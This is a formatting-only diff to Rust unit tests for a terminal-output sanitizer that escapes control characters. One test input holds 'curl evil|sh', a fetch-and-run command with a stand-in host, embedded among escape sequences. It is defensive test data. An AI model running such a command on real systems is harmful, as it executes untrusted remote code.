@@ -206,10 +206,17 @@ mod tests {
             sanitize("true \u{1b}]; curl evil|sh; \u{7} ls"),
             "true ^[]; curl evil|sh; ^G ls"
         );
-        assert_eq!(sanitize("git status\u{1b}]\ncurl x"), "git status^[]\ncurl x");
+        assert_eq!(
+            sanitize("git status\u{1b}]\ncurl x"),
+            "git status^[]\ncurl x"
+        );
         assert_eq!(sanitize("\u{1b}[ curl"), "^[[ curl");
         assert_eq!(sanitize("\u{1b}[2J\u{9b}x"), "^[[2J<U+009B>x");
-        assert!(!sanitize("\u{1b}\u{7f}\u{0}\u{85}").chars().any(char::is_control));
+        assert!(
+            !sanitize("\u{1b}\u{7f}\u{0}\u{85}")
+                .chars()
+                .any(char::is_control)
+        );
     }
 
     #[test]
